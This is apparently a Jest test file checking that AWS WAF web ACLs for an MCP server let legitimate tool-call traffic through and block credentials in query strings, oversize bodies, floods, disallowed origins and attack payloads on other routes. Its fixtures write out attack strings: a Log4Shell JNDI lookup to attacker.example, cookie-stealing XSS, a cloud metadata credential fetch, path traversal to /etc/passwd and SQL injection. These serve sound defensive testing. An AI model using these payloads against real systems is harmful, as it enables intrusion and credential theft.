/**
 * Real MCP traffic against every web ACL of the synthesized templates (issue 13): legitimate tool calls
 * that carry code, paths, URLs and blobs pass both web ACLs; credentials in the query, oversize bodies and
 * headers, web-attack payloads outside the MCP routes, disallowed origins and rate floods are blocked.
 * The web ACLs are evaluated by test/waf/web-acl-evaluator.ts (the kit's rules by their statements, the
 * managed groups by their documented behaviour and our overrides).
 */
import { randomBytes } from 'node:crypto';
import { Template } from 'aws-cdk-lib/assertions';
import type { PerimeterConfig } from '../../lib/config';
import { presetNames } from '../../lib/config/presets';
import { API_STAGE_NAME } from '../../lib/constructs/edge/api-stage';
import { buildPerimeter } from '../fixtures/perimeter';
import { testConfig } from '../fixtures/test-app';
import { presetConfig } from '../presets/preset-harness';
import { type WafRequest, type WafResource, WebAclEvaluator } from './web-acl-evaluator';

const ORIGINS = ['https://app.example.com', 'https://console.example.org'];

interface WebAcl { readonly name: string; readonly resource: WafResource; readonly acl: any; readonly config: PerimeterConfig }

function webAcls(name: string, config: PerimeterConfig): WebAcl[] {
  const perimeter = buildPerimeter(config);
  const out: WebAcl[] = [];
  for (const stack of [perimeter.keys, perimeter.audit, perimeter.network, perimeter.service, perimeter.edge]) {
    const resources = Template.fromStack(stack).toJSON().Resources as Record<string, any>;
    for (const [id, r] of Object.entries(resources)) {
      if (r.Type !== 'AWS::WAFv2::WebACL') continue;
      const resource: WafResource = stack === perimeter.edge ? 'API_GATEWAY' : 'APPLICATION_LOAD_BALANCER';
      out.push({ name: `${name} ${stack.node.id}/${id}`, resource, acl: r.Properties, config });
    }
  }
  return out;
}

const CONFIGS: Array<[string, PerimeterConfig]> = [
  ['default', testConfig()],
  ['two origins', testConfig({ cors: { allowedOrigins: ORIGINS } })],
  ...presetNames().map((name): [string, PerimeterConfig] => [`preset ${name}`, presetConfig(name)]),
];
const ACLS = CONFIGS.flatMap(([name, config]) => webAcls(name, config));

const token = (n = 0) => `mcp_${n.toString().padStart(4, '0')}${'a'.repeat(40)}`;

/** A request as it reaches a web ACL: at the API stage as the client sent it, at the load balancer as API Gateway forwards it. */
function request(acl: WebAcl, init: { method?: string; path?: string; query?: string; headers?: Record<string, string>; body?: string; ip?: string; credential?: string | null; origin?: string }): WafRequest {
  const header = acl.config.auth.credentialHeaders[0];
  const path = init.path ?? '/mcp';
  return {
    method: init.method ?? 'POST',
    // API Gateway may put the stage name in front of the path it sends over the private integration.
    path: acl.resource === 'APPLICATION_LOAD_BALANCER' ? `/${API_STAGE_NAME}${path}` : path,
    query: init.query ?? '',
    headers: {
      'host': acl.resource === 'API_GATEWAY' ? acl.config.domain.apiDomainName : acl.config.domain.internalDomainName,
      'user-agent': 'node',
      'content-type': 'application/json',
      'accept': 'application/json, text/event-stream',
      'mcp-protocol-version': '2025-06-18',
      ...(init.credential === null ? {} : { [header]: header === 'authorization' ? `Bearer ${init.credential ?? token()}` : init.credential ?? token() }),
      ...(init.origin ? { origin: init.origin } : {}),
      ...init.headers,
    },
    body: init.body ?? '',
    ip: init.ip ?? (acl.resource === 'APPLICATION_LOAD_BALANCER' ? '10.40.1.20' : '198.51.100.10'),
  };
}

let nextId = 1;
const rpc = (method: string, params: unknown) => JSON.stringify({ jsonrpc: '2.0', id: nextId++, method, params });
const toolCall = (name: string, args: Record<string, unknown>) => rpc('tools/call', { name, arguments: args });

/** Legitimate MCP messages: what developers' agents send and receive every day. */
const LEGITIMATE_BODIES: Array<[string, string]> = [
  ['initialize', rpc('initialize', { protocolVersion: '2025-06-18', capabilities: { sampling: {}, roots: { listChanged: true } }, clientInfo: { name: 'claude-code', version: '1.0.0' } })],
  ['initialized notification', JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' })],
  ['tools/list', rpc('tools/list', {})],
  ['HTML page with a script tag', toolCall('save_note', { title: 'landing page', body: '<!doctype html><html><head><script src="/app.js"></script><script>window.dataLayer=[];</script></head><body onload="init()"><div id="root"></div></body></html>' })],
  ['React component with an img onerror', toolCall('review_code', { language: 'tsx', code: 'export const Avatar = ({ src }) => <img src={src} onerror="this.src=\'/fallback.png\'" alt="" />;' })],
  ['SVG icon source', toolCall('save_note', { title: 'icon', body: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M0 0h24v24H0z"/></svg> is what the XSS report showed' })],
  ['javascript: URL in a lint rule', toolCall('review_code', { language: 'js', code: "if (href.startsWith('javascript:')) throw new Error('no script URLs');" })],
  ['iframe embed snippet', toolCall('save_note', { title: 'embed', body: '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>' })],
  ['shell commands', toolCall('run_in_sandbox', { command: 'rm -rf ./build && npm ci && curl -s http://127.0.0.1:8188/prompt | jq .queue_running; cat ~/.bashrc | grep PATH' })],
  ['SQL with OR 1=1', toolCall('explain_query', { sql: "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE sessions; -- why does this leak?\nUNION SELECT password FROM admins" })],
  ['path traversal in a code review', toolCall('review_code', { language: 'python', code: "open(os.path.join(base, '../../etc/passwd'))  # CWE-22: never join user paths" })],
  ['Windows path traversal', toolCall('search_docs', { query: 'why does ..\\..\\windows\\win.ini show up in our logs' })],
  ['relative import paths', toolCall('read_file', { path: '../../lib/config/schema.ts' })],
  ['EC2 metadata URL in a log excerpt', toolCall('summarize_logs', { text: '2026-11-30T10:00:01Z GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ 401 (IMDSv2 token missing)' })],
  ['loopback URL', toolCall('fetch_local_docs', { url: 'http://127.0.0.1:8188/api/docs' })],
  ['IPv6 loopback and private URLs', toolCall('save_note', { title: 'endpoints', body: 'dev: http://[::1]:8080/ staging: http://10.0.12.7/health prod: https://203.0.113.9/status' })],
  ['ECS task metadata v4 variable', toolCall('explain', { text: 'curl ${ECS_CONTAINER_METADATA_URI_V4}/task returns http://169.254.170.2/v4/...' })],
  ['Log4Shell write-up', toolCall('save_note', { title: 'CVE-2021-44228', body: 'The payload ${jndi:ldap://attacker.example/a} in a User-Agent made log4j load a remote class.' })],
  ['shell parameter expansion', toolCall('review_code', { language: 'bash', code: 'echo "${HOME:-/root}" "${env:PATH}" "${lower:ABC}"' })],
  ['Java serialization stream in base64', toolCall('decode_blob', { encoding: 'base64', data: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw' })],
  ['java.lang.Runtime in a stack trace', toolCall('summarize_logs', { text: 'at java.lang.Runtime.exec(Runtime.java:347)\n\tat com.example.Worker.run(Worker.java:42)' })],
  ['React server components payload under review', toolCall('review_code', { language: 'js', code: 'const chunk = {"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}"}; // CVE-2025-55182 repro' })],
  ['random base64 blob', toolCall('upload_attachment', { name: 'image.png', data: randomBytes(6000).toString('base64') })],
  ['non-ASCII text', toolCall('save_note', { title: 'ノート 📝', body: 'Grüße aus Zürich — مرحبا بالعالم — 你好，世界 — Ω≈ç√∫ — 🚀🔥' })],
  ['resources/read with a file URI', rpc('resources/read', { uri: 'file:///workspace/../shared/README.md' })],
  ['prompts/get', rpc('prompts/get', { name: 'review', arguments: { diff: '- <script>old()</script>\n+ <script type="module">new()</script>' } })],
  ['sampling result with markdown', JSON.stringify({ jsonrpc: '2.0', id: 7, result: { role: 'assistant', content: { type: 'text', text: '```html\n<script>alert(document.cookie)</script>\n```\nThis is the XSS you asked about.' } } })],
];

/** A body close to the configured limit: 10,000 tokens of code, with the tell-tale patterns beyond the load balancer's 8 KB. */
function nearLimitBody(maxBodyBytes: number): string {
  const filler = 'const x = 1; // lorem ipsum dolor sit amet\n';
  const tail = '<script>fetch("http://169.254.169.254/latest/meta-data/")</script> ../../etc/passwd';
  const body = (n: number) => toolCall('review_code', { language: 'html', code: filler.repeat(n) + tail });
  let n = Math.floor(maxBodyBytes / filler.length);
  while (Buffer.byteLength(body(n)) > maxBodyBytes) n--;
  const out = body(n);
  if (Buffer.byteLength(out) < maxBodyBytes - 2 * filler.length) throw new Error('the near-limit body is not near the limit');
  return out;
}

describe.each(ACLS.map((a) => [a.name, a] as const))('%s', (_name, acl) => {
  const fresh = () => new WebAclEvaluator(acl.acl, acl.resource);
  const origin = acl.config.cors.allowedOrigins[acl.config.cors.allowedOrigins.length - 1];

  test('EDGE-1: every legitimate MCP message passes, whatever code, paths or URLs it carries', () => {
    const bodies = [...LEGITIMATE_BODIES, ['near the body limit', nearLimitBody(acl.config.limits.maxBodyBytes)] as [string, string]];
    for (const [what, body] of bodies) {
      const verdict = fresh().evaluate(request(acl, { body, origin }));
      expect({ what, ...verdict }).toMatchObject({ what, action: 'ALLOW' });
    }
  });

  test('EDGE-1: the Streamable HTTP GET, DELETE and the public documents pass', () => {
    const requests = [
      request(acl, { method: 'GET', headers: { 'accept': 'text/event-stream', 'last-event-id': '42', 'mcp-session-id': 'a1b2c3' } }),
      request(acl, { method: 'DELETE', headers: { 'mcp-session-id': 'a1b2c3' } }),
      request(acl, { method: 'GET', path: '/.well-known/oauth-protected-resource', credential: null, origin }),
      request(acl, { method: 'GET', path: acl.config.service.healthPath, credential: null }),
    ];
    for (const r of requests) expect({ path: r.path, ...fresh().evaluate(r) }).toMatchObject({ action: 'ALLOW' });
  });

  test('EDGE-3: a credential in the query string is blocked on every route, however it is spelled', () => {
    for (const query of ['access_token=abc', 'api_key=abc', 'Token=abc', '%74oken=abc', 'x=1&apikey=abc', 'token[]=abc', 'jwt']) {
      for (const path of ['/mcp', '/api/notes', acl.config.service.healthPath]) {
        expect({ query, path, ...fresh().evaluate(request(acl, { method: 'GET', path, query })) }).toMatchObject({ action: 'BLOCK', rule: 'BlockCredentialsInQuery' });
      }
    }
  });

  test('EDGE-6: oversize credential headers are blocked', () => {
    const header = acl.config.auth.credentialHeaders[0];
    const big = 'x'.repeat(acl.config.limits.maxCredentialBytes + 1);
    expect(fresh().evaluate(request(acl, { headers: { [header]: big } }))).toMatchObject({ action: 'BLOCK', rule: 'LimitCredentialHeaderSize' });
  });

  test('EDGE-1: web-attack payloads in a body are still blocked outside the MCP routes, and a path that only looks like /mcp does not escape', () => {
    if (!acl.config.rbac.routes.some((r) => r.path === '/api')) return;
    for (const [what, body] of LEGITIMATE_BODIES.filter(([w]) => /script|traversal|EC2|Log4Shell|Java serialization/.test(w))) {
      for (const path of ['/api/notes', '/mcp/../api/notes', '/mcp/%2e%2e/api/notes']) {
        expect({ what, path, ...fresh().evaluate(request(acl, { path, body })) }).toMatchObject({ action: 'BLOCK', rule: expect.stringMatching(/BlockBodySignaturesOutsideMcp|AWSManagedRules/) });
      }
    }
  });

  test('EDGE-1: web-attack patterns on the MCP routes are counted for the alarm', () => {
    const verdict = fresh().evaluate(request(acl, { body: LEGITIMATE_BODIES.find(([w]) => w === 'HTML page with a script tag')![1] }));
    expect(verdict.action).toBe('ALLOW');
    expect(verdict.counted).toContain('CountBodySignaturesOnMcp');
    expect(verdict.labels).toContain('awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body');
  });

  if (acl.resource === 'API_GATEWAY') {
    test('EDGE-6: a body over the configured limit is blocked, also past the inspection limit', () => {
      const limit = acl.config.limits.maxBodyBytes;
      for (const size of [limit + 1, 70_000]) {
        const body = toolCall('save_note', { body: 'a'.repeat(size) });
        expect({ size, ...fresh().evaluate(request(acl, { body })) }).toMatchObject({ action: 'BLOCK', rule: 'LimitBodySize', status: 413 });
      }
    });

    test('EDGE-2: a flood from one address is refused, without a credential far sooner', () => {
      const limits = acl.config.rateLimits;
      const waf = fresh();
      const ip = '192.0.2.77';
      const anonymous = Array.from({ length: limits.unauthenticatedPerIpPerMinute + 1 }, () => waf.evaluate(request(acl, { credential: null, ip, path: '/mcp' })));
      expect(anonymous.slice(0, -1).every((v) => v.action === 'ALLOW')).toBe(true);
      expect(anonymous[anonymous.length - 1]).toMatchObject({ action: 'BLOCK', status: 429 });
      const flood = fresh();
      const verdicts = Array.from({ length: limits.perIpPerMinute + 1 }, (_, i) => flood.evaluate(request(acl, { credential: token(i), ip: '192.0.2.78' })));
      expect(verdicts[verdicts.length - 1]).toMatchObject({ action: 'BLOCK', rule: 'RatePerIp', status: 429 });
    });

    test('EDGE-2: one credential over its own limit is refused from any address', () => {
      const limit = acl.config.rateLimits.perCredentialPerMinute;
      const waf = fresh();
      // GET (the SSE stream): a read, so only the per-credential rule counts it, not the writes rule.
      const verdicts = Array.from({ length: limit + 1 }, (_, i) => waf.evaluate(request(acl, { method: 'GET', credential: token(9999), ip: `198.51.100.${i % 250}` })));
      expect(verdicts.slice(0, -1).every((v) => v.action === 'ALLOW')).toBe(true);
      expect(verdicts[verdicts.length - 1]).toMatchObject({ action: 'BLOCK', rule: expect.stringMatching(/^RatePerCredential-/), status: 429 });
    });

    if (acl.config.cors.allowedOrigins.length > 0) {
      test('EDGE-5: a request from an origin that is not allowed is blocked before the gateway can echo it', () => {
        expect(fresh().evaluate(request(acl, { origin: 'https://evil.example.net' }))).toMatchObject({ action: 'BLOCK', rule: 'BlockDisallowedOrigin' });
        for (const allowed of acl.config.cors.allowedOrigins) expect(fresh().evaluate(request(acl, { origin: allowed })).action).toBe('ALLOW');
      });
    }
  }
});

test('EDGE-2: 20 agents behind one address, each at its own per-credential limit, are never refused by the default limits', () => {
  const acl = ACLS.find((a) => a.name.startsWith('default') && a.resource === 'API_GATEWAY')!;
  const waf = new WebAclEvaluator(acl.acl, acl.resource);
  const perAgent = acl.config.rateLimits.perCredentialPerMinute;
  const verdicts = [];
  for (let i = 0; i < perAgent; i++) {
    for (let agent = 0; agent < 20; agent++) verdicts.push(waf.evaluate(request(acl, { credential: token(agent), ip: '192.0.2.10', body: LEGITIMATE_BODIES[i % LEGITIMATE_BODIES.length][1] })));
  }
  expect(verdicts).toHaveLength(20 * perAgent);
  expect(verdicts.filter((v) => v.action === 'BLOCK')).toEqual([]);
});

test('the corpus: sizes and web ACLs covered', () => {
  // 27 legitimate messages + 1 near the limit, 4 other legitimate requests; 7 query spellings on 3 routes.
  expect(LEGITIMATE_BODIES.length).toBeGreaterThanOrEqual(27);
  expect(ACLS.filter((a) => a.resource === 'API_GATEWAY')).toHaveLength(CONFIGS.length);
  expect(ACLS.filter((a) => a.resource === 'APPLICATION_LOAD_BALANCER')).toHaveLength(CONFIGS.length);
});
